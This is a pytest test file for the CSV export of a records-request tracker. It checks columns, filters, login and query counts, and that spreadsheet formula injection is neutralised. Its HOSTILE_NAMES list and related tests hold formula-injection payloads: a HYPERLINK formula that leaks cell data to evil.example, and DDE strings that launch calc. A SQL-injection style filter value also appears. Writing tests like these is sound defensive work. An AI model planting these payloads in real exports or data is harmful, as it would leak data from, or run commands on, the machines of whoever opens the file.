"""The CSV export of the request list: columns, filters, and cells a spreadsheet cannot run."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import event

from foiatrack.domain.accounts.models import Role, User
from foiatrack.domain.requests import lifecycle
from foiatrack.domain.requests.lifecycle import Clock
from foiatrack.domain.requests.models import Campaign, FilingMethod, RecordsRequest
from foiatrack.extensions import db
from foiatrack.web.exports import COLUMNS, neutralise
from tests.factories import make_agency, make_campaign, make_request

TODAY = dt.date.today()
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 Police Department",
    "\r=1+1 Police Department",
]


def _filed(
    name: str,
    *,
    filed_on: dt.date,
    state: str = "CA",
    city: str = "",
    assignee_id: int | None = None,
    campaign: Campaign | None = None,
) -> RecordsRequest:
    session = db.session
    agency = make_agency(session, name=name, state=state, city=city)
    request = make_request(session, agency, campaign)
    lifecycle.file_request(
        session,
        request,
        actor=None,
        clock=Clock(today=TODAY, on=filed_on),
        method=FilingMethod.EMAIL,
    )
    if assignee_id is not None:
        lifecycle.assign(session, request, session.get(User, assignee_id), actor=None)
    return request


def _export(client: FlaskClient, query: str = "") -> list[dict[str, str]]:
    response = client.get("/exports/requests.csv" + query)
    assert response.status_code == 200, response.get_data(as_text=True)
    text = response.data.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


@pytest.fixture
def requests_data(app: Flask, make_user: Callable[..., User]) -> dict[str, int]:
    reporter = make_user(Role.EDITOR, email="reporter@example.org")
    with app.app_context():
        campaign = make_campaign(db.session, "Ring 2026")
        late = _filed(
            "Alameda Police Department",
            city="Alameda",
            filed_on=TODAY - dt.timedelta(days=60),
            assignee_id=reporter.id,
            campaign=campaign,
        )
        lifecycle.add_tag(db.session, late, "priority", actor=None)
        lifecycle.add_reference(db.session, late, "R-2026-0042", actor=None)
        soon = _filed("Miami Police Department", state="FL", filed_on=TODAY - dt.timedelta(days=2))
        draft = make_request(
            db.session, make_agency(db.session, name="Troy Police Department", state="MI")
        )
        db.session.commit()
        return {
            "reporter": reporter.id,
            "campaign": campaign.id,
            "late": late.id,
            "soon": soon.id,
            "draft": draft.id,
        }


def test_viewer_exports_every_request_with_due_dates(
    client: FlaskClient, login_as: Callable[[Role], User], requests_data: dict[str, int]
) -> None:
    login_as(Role.VIEWER)
    response = client.get("/exports/requests.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="foiatrack-requests-{TODAY.isoformat()}.csv"'
    )
    rows = {int(row["id"]): row for row in _export(client)}
    assert set(rows) == {requests_data["late"], requests_data["soon"], requests_data["draft"]}

    late = rows[requests_data["late"]]
    assert late["agency"] == "Alameda Police Department"
    assert (late["state"], late["city"], late["campaign"]) == ("CA", "Alameda", "Ring 2026")
    assert late["status"] == "filed"
    assert late["filed_on"] == (TODAY - dt.timedelta(days=60)).isoformat()
    due_on = dt.date.fromisoformat(late["due_on"])
    assert due_on < TODAY
    assert late["due_is_statutory"] == "yes"
    assert int(late["days_late"]) == (TODAY - due_on).days > 0
    assert late["ack_due_on"] == ""
    assert late["assignee"] == "reporter@example.org"
    assert late["tags"] == "priority"
    assert late["agency_reference"] == "R-2026-0042"
    assert late["url"] == f"http://localhost/requests/{requests_data['late']}"

    soon = rows[requests_data["soon"]]
    assert soon["due_is_statutory"] == "no"  # Florida: a follow-up date, not a deadline
    assert dt.date.fromisoformat(soon["due_on"]) > TODAY
    assert soon["days_late"] == "0"
    draft = rows[requests_data["draft"]]
    assert (draft["status"], draft["due_on"], draft["due_is_statutory"]) == ("draft", "", "")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?status=filed", {"late", "soon"}),
        ("?status=draft", {"draft"}),
        ("?campaign={campaign}", {"late"}),
        ("?state=fl", {"soon"}),
        ("?assignee={reporter}", {"late"}),
        ("?tag=PRIORITY", {"late"}),
        ("?overdue=1", {"late"}),
        ("?state=CA&overdue=1&tag=other", set()),
        ("?status=&campaign=&state=&assignee=&tag=&overdue=", {"late", "soon", "draft"}),
    ],
)
def test_filters(
    client: FlaskClient,
    login_as: Callable[[Role], User],
    requests_data: dict[str, int],
    query: str,
    expected: set[str],
) -> None:
    login_as(Role.VIEWER)
    ids = {int(row["id"]) for row in _export(client, query.format(**requests_data))}
    assert ids == {requests_data[name] for name in expected}


@pytest.mark.parametrize("query", ["?status=overdue", "?assignee=me", "?campaign=1;DROP"])
def test_malformed_filters_are_refused(
    client: FlaskClient, login_as: Callable[[Role], User], query: str
) -> None:
    login_as(Role.VIEWER)
    assert client.get("/exports/requests.csv" + query).status_code == 400


def test_export_needs_a_login(client: FlaskClient) -> None:
    response = client.get("/exports/requests.csv")
    assert response.status_code == 302
    assert "/auth/login" in response.headers["Location"]


def test_hostile_cells_cannot_become_formulas(
    app: Flask, client: FlaskClient, login_as: Callable[[Role], User]
) -> None:
    with app.app_context():
        ids = {}
        for number, name in enumerate(HOSTILE_NAMES):
            request = _filed(f"Placeholder {number} PD", filed_on=TODAY)
            # As an import could store it, past the form's validation.
            request.agency.name = name
            ids[request.id] = name
        quoted = _filed('Smith, "Jr." Police\nDepartment', filed_on=TODAY, city="=cmd")
        lifecycle.add_tag(db.session, quoted, "=evil()", actor=None)
        lifecycle.add_reference(db.session, quoted, "-42", actor=None)
        db.session.commit()
        quoted_id = quoted.id
    login_as(Role.VIEWER)
    rows = {int(row["id"]): row for row in _export(client)}
    for request_id, name in ids.items():
        assert rows[request_id]["agency"] == "'" + name
    quoted_row = rows[quoted_id]
    assert quoted_row["agency"] == 'Smith, "Jr." Police\nDepartment'
    assert (quoted_row["city"], quoted_row["tags"]) == ("'=cmd", "'=evil()")
    assert quoted_row["agency_reference"] == "'-42"
    for row in rows.values():
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Troy PD", "Troy PD"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


@contextmanager
def _count_queries(app: Flask) -> Iterator[list[str]]:
    with app.app_context():
        engine = db.engine
    statements: list[str] = []

    def record(*args: object) -> None:
        statements.append(str(args[2]))

    event.listen(engine, "before_cursor_execute", record)
    try:
        yield statements
    finally:
        event.remove(engine, "before_cursor_execute", record)


def test_query_count_does_not_grow_with_rows(
    app: Flask, client: FlaskClient, login_as: Callable[[Role], User]
) -> None:
    user = login_as(Role.VIEWER)

    def add(count: int, start: int) -> None:
        with app.app_context():
            campaign = make_campaign(db.session, f"Campaign {start}")
            for number in range(start, start + count):
                request = _filed(
                    f"Town {number} Police Department",
                    filed_on=TODAY - dt.timedelta(days=number),
                    assignee_id=user.id,
                    campaign=campaign,
                )
                lifecycle.add_tag(db.session, request, f"tag {number}", actor=None)
                lifecycle.add_reference(db.session, request, f"REF-{number}", actor=None)
            db.session.commit()

    add(2, 0)
    with _count_queries(app) as few:
        assert len(_export(client)) == 2
    add(8, 2)
    with _count_queries(app) as many:
        assert len(_export(client)) == 10
    assert len(many) == len(few), many
